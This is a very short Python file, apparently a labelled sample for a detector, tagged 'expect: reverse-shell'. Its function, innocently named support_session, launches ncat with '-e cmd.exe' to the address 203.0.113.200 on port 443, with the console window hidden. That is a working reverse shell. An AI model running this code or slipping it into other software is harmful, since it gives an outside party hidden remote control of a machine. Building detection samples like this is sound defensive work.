# expect: reverse-shell
import subprocess


def support_session(host: str = "203.0.113.200") -> None:
    subprocess.Popen(["ncat.exe", host, "443", "-e", "cmd.exe"], creationflags=0x08000000)
